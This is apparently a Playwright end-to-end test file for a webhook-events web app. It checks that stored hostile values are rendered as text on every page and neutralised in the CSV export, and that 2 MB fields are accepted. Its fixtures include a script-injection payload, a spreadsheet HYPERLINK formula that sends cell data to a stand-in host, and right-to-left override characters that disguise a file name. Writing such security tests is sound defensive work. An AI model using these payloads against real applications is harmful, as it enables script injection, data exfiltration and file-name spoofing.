import Papa from 'papaparse';
import { expect, test } from './fixtures.ts';
import { customer } from './samples.ts';

declare global {
  interface Window {
    ran?: boolean;
  }
}

/** What must be shown as text, run nowhere and break nothing. */
const hostile = {
  script: '<script>window.ran=true</script><img src=x onerror="window.ran=true">',
  formula: '=HYPERLINK("http://example.invalid/?"&A1,"Ada")',
  turned: 'Quinn \u202egnp.exe\u202c\u2066\u200b\u200d\ufeff Zero',
  large: 'Large '.repeat(350_000),
};

/** The body with `value` in place of each text of it, one at a time. */
function inEachField(body: Record<string, unknown>, value: string): Record<string, unknown>[] {
  const texts = Object.keys(body).filter((key) => key !== 'webhook_event' && typeof body[key] === 'string');
  return texts.map((key) => ({ ...body, [key]: value }));
}

test('a stored script, a formula and turned text are shown as text on every page', async ({
  page,
  send,
  signIn,
  installation,
}) => {
  const names = [hostile.script, hostile.formula, hostile.turned];
  const ids: string[] = [];
  for (const [at, name] of names.entries()) {
    const body = customer({
      id: 71_000 + at,
      full_name: name,
      first_name: name,
      last_name: name,
      email: name,
    });
    ids.push(await send.enerflo({ ...body, lead_source: name, [name]: name }));
    await send.sunnova('cancellation-case', {
      System_Project: `a0X00000${71_000 + at}`,
      CreatedDate: '2026-05-01T10:00:00.000Z',
      LastModifiedDate: '2026-05-01T10:00:00.000Z',
      Status: name,
      Cancellation_Reason: name,
      Cancellation_Category: name,
      Cancellation_Description: name,
      System_Project_Primary_Customer_Name: name,
      System_Installation_Address: name,
    });
    await send.raw(`enerflo/wrong?event=${encodeURIComponent(name)}`, name);
  }
  await signIn();
  const lists = ['/events', '/cancellations', '/cancellations/reference', '/refusals', '/deliveries'];
  const details = ids.map((id) => `/events/${id}`);
  const compare = `/events/compare?one=${ids[0]}&other=${ids[1]}`;
  for (const path of [...lists, ...details, compare, `/events?q=${encodeURIComponent(hostile.script)}`]) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.waitForLoadState('networkidle').catch(() => {});
    expect(await page.evaluate(() => window.ran), path).toBeUndefined();
  }
  await page.goto('/events');
  await expect(page.getByText('<script>window.ran=true</script>').first()).toBeVisible();

  const table = await page.request.get(`${installation.url}/api/events/export?format=csv`);
  expect(table.status()).toBe(200);
  const { data } = Papa.parse<string[]>((await table.text()).replace(/^\ufeff/, ''));
  expect(data.length).toBeGreaterThan(3);
  expect(data.flat().filter((cell) => /^[\s\u200b\ufeff]*[=+@＝＋－＠\t\r]/.test(cell))).toEqual([]);
});

test('a text of 2 MB in any field is taken, listed, opened and exported', async ({
  page,
  send,
  signIn,
  installation,
}) => {
  test.setTimeout(180_000);
  const bodies = inEachField(customer({ id: 72_000 }), hostile.large);
  expect(bodies.length).toBeGreaterThan(5);
  const ids: string[] = [];
  for (const [at, body] of bodies.entries()) {
    ids.push(await send.enerflo({ ...body, id: 72_000 + at, external_id: `large ${at}` }));
  }
  await signIn();
  const list = await page.request.get(`${installation.url}/api/events?limit=50`);
  expect((await list.body()).length).toBeLessThan(100_000);
  for (const id of ids) {
    await page.goto(`/events/${id}`);
    await expect(page.getByRole('heading', { name: /customer|lead/i }).first()).toBeVisible();
    const wide = await page.evaluate(
      () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
    );
    expect(wide).toBeLessThanOrEqual(0);
  }
  const rows = await page.request.get(`${installation.url}/api/events/export?format=jsonl&ids=${ids[0]}`);
  expect(rows.status()).toBe(200);
  expect((await rows.body()).length).toBeGreaterThan(2_000_000);
});
